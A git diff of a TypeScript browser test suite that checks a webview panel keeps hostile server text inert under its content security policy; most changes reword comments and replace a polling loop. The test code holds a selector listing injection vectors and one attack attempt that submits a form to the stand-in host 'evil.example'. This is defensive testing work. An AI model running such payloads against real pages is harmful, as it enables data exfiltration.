@@ -1,9 +1,10 @@
-/** A server's text in the panel: in a real browser, under the panel's own policy, it stays text. */
+/** Tests that server text stays text in a real browser, under the panel's own policy. */
 import assert from 'node:assert/strict';
 import type { InteractionFormState } from '../../src/protocol/related';
 import { fields, panelState, ready } from '../fixtures/panelStates';
 import { hostileStrings } from '../support/hostileStrings';
 import { panelBrowser } from '../support/panelForEach';
+import { until } from '../support/until';
 import type { PanelPage } from '../support/webviewPage';
 
 describe('panel: hostile text', () => {
@@ -14,7 +15,7 @@ describe('panel: hostile text', () => {
   });
   afterEach(() => panel.close());
 
-  /** Of what the host says of related records, the panel gets no more than this. */
+  /** The maximum length of texts about related records in the panel's state. */
   const most = 5000;
   const notice = (text: string) => {
     const part = text.slice(0, most);
@@ -33,7 +34,7 @@ describe('panel: hostile text', () => {
         options: [{ value: '', label: text.slice(0, most) }],
       },
       { name: 'date_time', label: 'Date and time', kind: 'time', value: text.slice(0, most) },
-      // A box of many lines takes the browser longer, and is there only when somebody opened it.
+      // A text area takes the browser longer, and appears only when the user opens it.
       {
         name: 'notes',
         label: 'Notes',
@@ -44,7 +45,7 @@ describe('panel: hostile text', () => {
     ],
     problem: notice(text),
   });
-  /** The text wherever a server's text can be. */
+  /** Puts a text in all places that server text can reach. */
   const everywhere = (text: string) =>
     panelState(
       ready({
@@ -99,7 +100,7 @@ describe('panel: hostile text', () => {
       }),
       { title: text, organisation: text },
     );
-  /** Elements that no panel has: made of somebody's text. */
+  /** Selects elements that the panel never creates, so that they come from server text. */
   const foreign =
     'img, iframe, object, embed, a[href], form[action], style, base, meta[http-equiv=refresh], body script:not([nonce]), [onerror], [onload], [onfocus], svg a';
   const drawn = () =>
@@ -108,16 +109,15 @@ describe('panel: hostile text', () => {
       return { hacked, foreign: document.querySelectorAll(selector).length };
     }, foreign);
   for (const [what, text] of Object.entries(hostileStrings))
-    it(`is text everywhere, whole in its field, and drawn before the test runs out of time: ${what}`, async () => {
+    it(`is text everywhere, whole in its field, and can be shortened: ${what}`, async () => {
       const own = (await drawn()).foreign;
-      const took = await panel.show(everywhere(text));
+      await panel.show(everywhere(text));
       assert.deepEqual(await drawn(), { hacked: undefined, foreign: own });
-      // A field is one line: the browser takes line breaks out of it, and nothing else.
+      // A field has one line: the browser removes line breaks and nothing else.
       const whole = text.replace(/[\r\n]/g, '').length;
       const length = () =>
         panel.page.evaluate(() => document.querySelector<HTMLInputElement>('#last_name')?.value.length ?? 0);
       assert.equal(await length(), whole);
-      const typed = performance.now();
       await panel.page.locator('#last_name').press('End');
       await panel.page.keyboard.press('Backspace');
       const edits = (await panel.posts()).filter(({ type }) => type === 'edit');
@@ -127,9 +127,6 @@ describe('panel: hostile text', () => {
       );
       assert.ok((await length()) < whole, 'it can be shortened');
       assert.deepEqual(await panel.complaints(), []);
-      const took2 = performance.now() - typed;
-      if (text.length > 100_000)
-        console.log(`      drawn in ${Math.round(took)} ms, a key in ${Math.round(took2)} ms`);
     });
 
   it('may not become more: the policy of the real document refuses every way', async () => {
@@ -194,17 +191,13 @@ describe('panel: hostile text', () => {
         `const f = Object.assign(document.createElement('form'), { action: 'https://evil.example/' }); document.body.append(f); f.submit()`,
       ],
     ];
-    const open: string[] = [];
     for (const [what, code] of attempts) {
       const before = (await panel.complaints()).length;
       await panel.page.evaluate(code);
-      const end = Date.now() + 1500;
-      while ((await panel.complaints()).length === before && Date.now() < end)
-        await new Promise((resolve) => setTimeout(resolve, 20));
-      // A manifest is asked for by a browser that can install pages only.
-      if ((await panel.complaints()).length === before && what !== 'a manifest') open.push(what);
+      // Only a browser that can install pages requests a manifest.
+      if (what !== 'a manifest')
+        await until(`a complaint of ${what}`, async () => (await panel.complaints()).length > before);
     }
-    assert.deepEqual(open, []);
     assert.equal((await drawn()).hacked, undefined);
     assert.match(panel.page.url(), /^http:\/\/127\.0\.0\.1/);
   });
